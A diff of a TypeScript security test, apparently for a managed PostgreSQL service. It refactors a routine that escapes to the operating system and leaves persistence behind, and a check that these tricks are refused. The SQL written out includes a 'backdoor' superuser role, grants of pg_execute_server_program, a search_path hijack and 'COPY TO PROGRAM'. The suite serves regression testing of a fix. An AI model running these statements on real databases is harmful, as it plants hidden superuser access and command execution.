@@ -6,19 +6,21 @@ import { wayOut, withoutGuard } from './fault-1.ts';
 import { MASTER, type Target } from './target.ts';
 
 /** What somebody who was a superuser once leaves behind, to be one again. Run as rdsadmin. */
-const leftBehind = ({ version }: Target): readonly string[] => [
-  'CREATE ROLE backdoor SUPERUSER LOGIN',
-  'CREATE ROLE quiet BYPASSRLS REPLICATION',
-  `GRANT pg_read_server_files, pg_execute_server_program TO ${MASTER} WITH ADMIN OPTION`,
-  'CREATE ROLE between',
-  'GRANT pg_write_server_files TO between',
-  `GRANT between TO ${MASTER}`,
-  'ALTER ROLE rds_superuser RENAME TO mine',
-  'GRANT CONNECT, CREATE ON DATABASE rdsadmin TO PUBLIC',
-  'ALTER DATABASE rdsadmin IS_TEMPLATE true',
-  `ALTER ROLE rdsadmin SET search_path = public`,
-  ...(version >= 15 ? [`GRANT SET ON PARAMETER session_preload_libraries TO ${MASTER}`] : []),
-];
+function leftBehind({ version }: Target): readonly string[] {
+  return [
+    'CREATE ROLE backdoor SUPERUSER LOGIN',
+    'CREATE ROLE quiet BYPASSRLS REPLICATION',
+    `GRANT pg_read_server_files, pg_execute_server_program TO ${MASTER} WITH ADMIN OPTION`,
+    'CREATE ROLE between',
+    'GRANT pg_write_server_files TO between',
+    `GRANT between TO ${MASTER}`,
+    'ALTER ROLE rds_superuser RENAME TO mine',
+    'GRANT CONNECT, CREATE ON DATABASE rdsadmin TO PUBLIC',
+    'ALTER DATABASE rdsadmin IS_TEMPLATE true',
+    `ALTER ROLE rdsadmin SET search_path = public`,
+    ...(version >= 15 ? [`GRANT SET ON PARAMETER session_preload_libraries TO ${MASTER}`] : []),
+  ];
+}
 
 const inDatabase = `
   CREATE FUNCTION public.again() RETURNS void LANGUAGE sql SECURITY DEFINER
@@ -38,7 +40,7 @@ const inDatabase = `
  * Takes a cluster as an older Cornac has made it, goes the way of fault 1 to the operating system (that it does get there
  * shows that the attack is one), and leaves behind what may be left. Gives a session that has taken a role.
  */
-export const breakOut = async (target: Target): Promise<pg.Client> => {
+export async function breakOut(target: Target): Promise<pg.Client> {
   const { canaries, version } = target;
   await target.outside('ALTER DATABASE app RESET ALL;');
   await target.reconnect();
@@ -56,10 +58,10 @@ export const breakOut = async (target: Target): Promise<pg.Client> => {
   await session.query('SET ROLE pg_read_server_files');
   await target.outside('\\connect postgres\nALTER DATABASE rdsadmin RENAME TO gone;');
   return session;
-};
+}
 
 /** Nothing of that works any more. */
-export const isMended = async (target: Target): Promise<void> => {
+export async function isMended(target: Target): Promise<void> {
   for (const sql of [
     'SELECT public.again()',
     `UPDATE public.authid SET rolsuper = true WHERE rolname = '${MASTER}'`,
@@ -70,8 +72,9 @@ export const isMended = async (target: Target): Promise<void> => {
     'SET ROLE backdoor',
     `COPY (SELECT 1) TO PROGRAM '${target.canaries.program}'`,
     'SET session_preload_libraries = DEFAULT',
-  ])
+  ]) {
     await target.refused(sql);
+  }
   const [owner] = await target.rows('SELECT public.as_role() AS role');
   if (/^(pg_|rdsadmin)/.test(owner?.role ?? '')) target.accept(`a function still works as ${owner?.role}`);
   await target.query('CREATE TABLE public.with_trigger ()');
@@ -80,4 +83,4 @@ export const isMended = async (target: Target): Promise<void> => {
   if (isConnectable) target.accept('rdsadmin is open');
   await isConnectable?.end();
   await target.check('after the mending');
-};
+}
